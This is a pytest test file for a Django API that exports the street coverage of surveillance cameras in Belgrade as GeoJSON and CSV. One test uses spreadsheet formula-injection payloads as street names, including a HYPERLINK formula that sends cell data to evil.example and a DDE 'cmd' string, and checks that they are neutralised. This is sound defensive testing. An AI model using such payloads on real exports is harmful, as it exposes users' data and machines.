"""The street coverage as open data (map/streets/api.py): /api/streets.geojson, /api/streets.csv
and /api/street-coverage.csv, on small networks whose coverage is worked out by hand (the
helpers of tests/map/test_streets.py: places in metres from an origin in Belgrade)."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from map.api_responses import api_cache, remembered
from map.models import Release, StreetSegment
from map.streets.api import MAX_BBOX_SEGMENTS
from map.streets.coverage import compute_coverage
from map.streets.importer import import_streets

from .factories import MunicipalityFactory
from .test_streets import at, block, camera, overpass, way

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def empty_process_cache():
    remembered.cache_clear()


def box(west, south, east, north):
    """A GeoJSON Polygon of the box between two corners given in metres."""
    (w, s), (e, n) = at(west, south), at(east, north)
    return {"type": "Polygon", "coordinates": [[[w, s], [e, s], [e, n], [w, n], [w, s]]]}


@pytest.fixture
def city(tmp_path):
    """Two municipalities side by side, a 100-m square block in Stari grad (its north side
    named as its south: one street of two ways) and one street in Vračar; a dome (20 m) at the
    block's south-west corner, a facial-recognition dome in Vračar, and a camera on the police
    list only reported."""
    stari_grad = MunicipalityFactory(slug="stari-grad", boundary=box(-1000, -1000, 300, 1000))
    vracar = MunicipalityFactory(slug="vracar", boundary=box(300, -1000, 2000, 1000))
    import_streets(
        overpass(
            tmp_path,
            *block(north="Južna"),
            way(5, (500, 0), (700, 0), name="Bulevar", highway="primary"),
        )
    )
    camera(0, 0)  # 20 m of ways 1 and 4
    camera(600, 0, facial_recognition=True)  # 40 m of way 5
    camera(650, 0, status="reported", on_police_list=True)  # 40 m of way 5, police only
    compute_coverage()
    return {"stari_grad": stari_grad, "vracar": vracar}


def segment_id(osm_id):
    return StreetSegment.objects.get(external_id=f"osm:way/{osm_id}").pk


def rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_each_segment_has_its_line_and_what_each_network_sees(client, city):
    response = client.get("/api/streets.geojson")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    collection = response.json()
    features = {feature["id"]: feature for feature in collection["features"]}
    assert len(features) == 5
    south = features[segment_id(1)]
    assert south["geometry"]["type"] == "LineString"
    start, end = south["geometry"]["coordinates"]
    assert start == [round(at(0, 0)[0], 6), round(at(0, 0)[1], 6)]
    assert end == [round(at(100, 0)[0], 6), round(at(100, 0)[1], 6)]
    properties = south["properties"]
    assert properties["name"] == "Južna"
    assert properties["highway"] == "residential"
    assert properties["municipality"] == "stari-grad"
    assert properties["length_m"] == pytest.approx(100, abs=0.1)
    assert properties["covered_m"] == pytest.approx(20, abs=0.1)
    assert properties["covered_share"] == pytest.approx(0.2, abs=0.001)
    assert properties["face_covered_m"] == 0
    assert properties["police_covered_share"] == 0
    assert features[segment_id(2)]["properties"]["covered_m"] == 0
    # 200 m; the facial-recognition dome sees 40 m of it, as does the police list's camera.
    boulevard = features[segment_id(5)]["properties"]
    assert boulevard["municipality"] == "vracar"
    assert boulevard["covered_share"] == pytest.approx(0.2, abs=0.001)
    assert boulevard["face_covered_share"] == pytest.approx(0.2, abs=0.001)
    assert boulevard["police_covered_share"] == pytest.approx(0.2, abs=0.001)


def test_a_segment_never_computed_says_so_rather_than_zero(client, city, tmp_path):
    import_streets(overpass(tmp_path, way(6, (0, 500), (100, 500)), name="more.json"))
    StreetSegment.objects.filter(external_id="osm:way/6").update(coverage_at=None)

    features = client.get("/api/streets.geojson").json()["features"]

    (new,) = [feature for feature in features if feature["id"] == segment_id(6)]
    assert new["properties"]["covered_m"] is None
    assert new["properties"]["covered_share"] is None


def test_filters_by_municipality_and_box(client, city):
    def ids(query):
        response = client.get(f"/api/streets.geojson?{query}")
        assert response.status_code == 200, response.content
        return sorted(feature["id"] for feature in response.json()["features"])

    assert ids("municipality=vracar") == [segment_id(5)]
    assert ids("municipality=stari-grad") == sorted(segment_id(n) for n in (1, 2, 3, 4))
    # A box around the block's east side meets ways 1, 2 and 3 (their ends), not 4 or 5.
    (west, south), (east, north) = at(90, -10), at(110, 110)
    assert ids(f"bbox={west},{south},{east},{north}") == sorted(segment_id(n) for n in (1, 2, 3))
    assert ids(f"bbox={west},{south},{east},{north}&municipality=vracar") == []
    (west, south), (east, north) = at(550, -10), at(560, 10)
    assert ids(f"bbox={west},{south},{east},{north}") == [segment_id(5)]


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("municipality=atlantis", "municipality"),
        ("municipality=%00", "municipality"),
        ("bbox=1,2,3", "bbox"),
        ("bbox=a,b,c,d", "bbox"),
        ("bbox=nan,44,20.5,45", "bbox"),
        ("bbox=20.4,44.8,inf,44.9", "bbox"),
        ("bbox=20.5,44.8,20.4,44.9", "bbox"),  # west east of east
        ("bbox=200,44.8,201,44.9", "bbox"),
        ("bbox=" + ",".join(["1"] * 400), "bbox"),
        ("bbox=%F0%9F%92%A5,1,2,3", "bbox"),
        ("bbox=19,44,21,46", "bbox"),  # 2 degrees each way: more than a city
        ("bbox=20.3,44.7,20.5,44.9", "bbox"),  # 0.2 degrees: more than a district
        ("bbox=-180,-90,180,90", "bbox"),
    ],
)
def test_a_wrong_parameter_is_a_400_naming_it(client, city, query, parameter):
    response = client.get(f"/api/streets.geojson?{query}")

    assert response.status_code == 400
    assert response.json()["parameter"] == parameter
    assert response.json()["error"]
    if "%00" not in query:  # a NUL is refused before any view (home/bad_requests.py)
        assert response["Access-Control-Allow-Origin"] == "*"


def test_the_csv_rejects_an_unknown_municipality(client, city):
    response = client.get("/api/streets.csv?municipality=atlantis")
    assert response.status_code == 400
    assert response.json()["parameter"] == "municipality"


def test_a_box_with_too_many_segments_is_refused(client, city, monkeypatch):
    monkeypatch.setattr("map.streets.api.MAX_BBOX_SEGMENTS", 2)
    (west, south), (east, north) = at(-10, -10), at(110, 110)

    response = client.get(f"/api/streets.geojson?bbox={west},{south},{east},{north}")

    assert response.status_code == 400
    assert response.json()["parameter"] == "bbox"
    # The real limit: a district's streets, not the city's (the unfiltered answer is kept).
    assert 1_000 <= MAX_BBOX_SEGMENTS <= 5_000


def test_every_answer_names_its_computation_release_and_method(client, city):
    computed = StreetSegment.objects.latest("coverage_at").coverage_at
    Release.objects.create(
        number=1, published_at=computed - timedelta(days=30), storage_prefix="releases/1-a/"
    )
    Release.objects.create(
        number=2, published_at=computed - timedelta(days=1), storage_prefix="releases/2-b/"
    )
    # Published after the coverage was computed: not what it counted.
    Release.objects.create(
        number=3, published_at=timezone.now() + timedelta(days=1), storage_prefix="releases/3-c/"
    )

    geojson = client.get("/api/streets.geojson")
    coverage = geojson.json()["coverage"]
    assert coverage["computed_at"] == computed.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert coverage["release"]["number"] == 2
    assert coverage["release"]["url"].endswith("/2/")
    assert coverage["assumptions"]["camera_views"]["dome"] == {"angle": 360, "range": 20}
    assert coverage["assumptions"]["crs"] == "EPSG:32634"
    assert coverage["method_url"].startswith("http://testserver/")
    for response in (
        geojson,
        client.get("/api/streets.csv"),
        client.get("/api/street-coverage.csv"),
    ):
        assert response["X-Coverage-Release"] == "2"
        assert response["X-Coverage-Computed-At"] == coverage["computed_at"]
        assert 'rel="describedby"' in response["Link"]
        assert coverage["method_url"] in response["Link"]
        assert "X-Coverage-Release" in response["Access-Control-Expose-Headers"]
    (first, *_others) = rows(client.get("/api/streets.csv"))
    assert (first["computed_at"], first["release"]) == (coverage["computed_at"], "2")


def test_without_a_release_before_the_coverage_none_is_named(client, city):
    response = client.get("/api/streets.geojson")
    assert response.json()["coverage"]["release"] is None
    assert response["X-Coverage-Release"] == "none"


def test_the_licence_travels_with_every_answer_with_openstreetmaps_credit(client, city):
    for path in ("/api/streets.geojson", "/api/streets.csv", "/api/street-coverage.csv"):
        response = client.get(path)
        assert response["Access-Control-Allow-Origin"] == "*"
        assert response["X-Data-Licence"]
        assert 'rel="license"' in response["Link"]
        # The streets are OpenStreetMap's.
        assert "OpenStreetMap" in response["X-Attribution"]
    assert "OpenStreetMap" in client.get("/api/streets.geojson").json()["attribution"]


def test_the_csv_per_street_adds_up_its_segments(client, city):
    response = client.get("/api/streets.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="streets.csv"' in response["Content-Disposition"]
    streets = {(row["name"], row["municipality"]): row for row in rows(response)}
    assert set(streets) == {
        ("Južna", "stari-grad"),
        ("Istočna", "stari-grad"),
        ("Zapadna", "stari-grad"),
        ("Bulevar", "vracar"),
    }
    # Ways 1 and 3: 200 m, 20 m of it seen.
    south = streets[("Južna", "stari-grad")]
    assert float(south["length_m"]) == pytest.approx(200, abs=0.1)
    assert float(south["covered_m"]) == pytest.approx(20, abs=0.1)
    assert float(south["covered_share"]) == pytest.approx(0.1, abs=0.001)
    assert float(streets[("Bulevar", "vracar")]["face_covered_share"]) == pytest.approx(0.2, 0.01)
    only_vracar = rows(client.get("/api/streets.csv?municipality=vracar"))
    assert [row["name"] for row in only_vracar] == ["Bulevar"]


def test_the_csv_per_municipality(client, city):
    response = client.get("/api/street-coverage.csv")

    assert 'filename="street-coverage.csv"' in response["Content-Disposition"]
    municipalities = {row["municipality"]: row for row in rows(response)}
    assert set(municipalities) == {"stari-grad", "vracar"}
    # The block: 400 m, 40 m of it seen (20 m of each of two sides).
    block = municipalities["stari-grad"]
    assert float(block["length_m"]) == pytest.approx(400, abs=0.1)
    assert float(block["covered_share"]) == pytest.approx(0.1, abs=0.001)
    assert float(block["police_covered_m"]) == 0
    assert float(municipalities["vracar"]["police_covered_m"]) == pytest.approx(40, abs=0.1)


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?"&A1,"Ulica")', "+1+cmd|' /C calc'!A0", "-1", "@SUM(1)"],
)
def test_a_street_name_that_looks_like_a_formula_stays_text(client, tmp_path, name):
    import_streets(overpass(tmp_path, way(1, (0, 0), (100, 0), name=name)))
    compute_coverage()

    (row,) = rows(client.get("/api/streets.csv"))

    assert row["name"] == f"'{name}"
    # Numbers stay numbers; the GeoJSON, which no spreadsheet runs, keeps the name as it is.
    assert float(row["length_m"]) == pytest.approx(100, abs=0.1)
    (feature,) = client.get("/api/streets.geojson").json()["features"]
    assert feature["properties"]["name"] == name


def test_computing_the_coverage_again_gives_new_answers(client, city):
    first = client.get("/api/streets.geojson")
    assert client.get("/api/streets.geojson", HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304
    # A write no signal hears of: the answer is kept until the computation, which bumps the
    # camera data version.
    StreetSegment.objects.update(covered_m=0)

    stale = client.get("/api/streets.geojson", HTTP_IF_NONE_MATCH=first["ETag"])
    assert stale.status_code == 304  # the cached answer stands until the coverage changes
    compute_coverage()
    fresh = client.get("/api/streets.geojson", HTTP_IF_NONE_MATCH=first["ETag"])

    assert fresh.status_code == 200
    assert fresh["ETag"] != first["ETag"]
    assert fresh.json()["coverage"]["computed_at"] >= first.json()["coverage"]["computed_at"]


def test_a_new_camera_shows_once_the_coverage_is_computed(client, city):
    before = client.get("/api/street-coverage.csv")
    camera(100, 100)  # a dome at the block's north-east corner: 20 m of ways 2 and 3
    StreetSegment.objects.update(coverage_at=None)  # what the computation writes again
    compute_coverage()

    after = {row["municipality"]: row for row in rows(client.get("/api/street-coverage.csv"))}

    assert before.content != client.get("/api/street-coverage.csv").content
    assert float(after["stari-grad"]["covered_share"]) == pytest.approx(0.2, abs=0.001)


def test_answers_are_cached_and_cheap_for_anonymous_visitors(client, city):
    response = client.get("/api/streets.geojson")
    assert "public" in response["Cache-Control"]
    assert "max-age=60" in response["Cache-Control"]
    assert response["ETag"]
    gzipped = client.get("/api/streets.geojson", HTTP_ACCEPT_ENCODING="gzip")
    assert gzipped["Content-Encoding"] == "gzip"


def test_queries_do_not_grow_with_the_streets(client, city, tmp_path):
    def queries(path):
        # Built each time: nothing kept from the previous state, here or in the shared cache.
        remembered.cache_clear()
        api_cache.clear()
        with CaptureQueriesContext(connection) as captured:
            assert client.get(path).status_code == 200
        return len(captured)

    paths = ["/api/streets.geojson", "/api/streets.geojson?municipality=vracar"]
    paths += ["/api/streets.csv", "/api/street-coverage.csv"]
    (west, south), (east, north) = at(-2000, -2000), at(2000, 2000)
    paths.append(f"/api/streets.geojson?bbox={west},{south},{east},{north}")
    queries(paths[0])  # the site's settings, read once and kept (home/kept.py)
    few = [queries(path) for path in paths]
    import_streets(
        overpass(
            tmp_path,
            *(way(100 + n, (n * 10, 300), (n * 10 + 10, 300), name=f"U{n}") for n in range(60)),
            name="many.json",
        )
    )
    compute_coverage()
    many = [queries(path) for path in paths]

    assert many == few
    assert max(few) <= 12
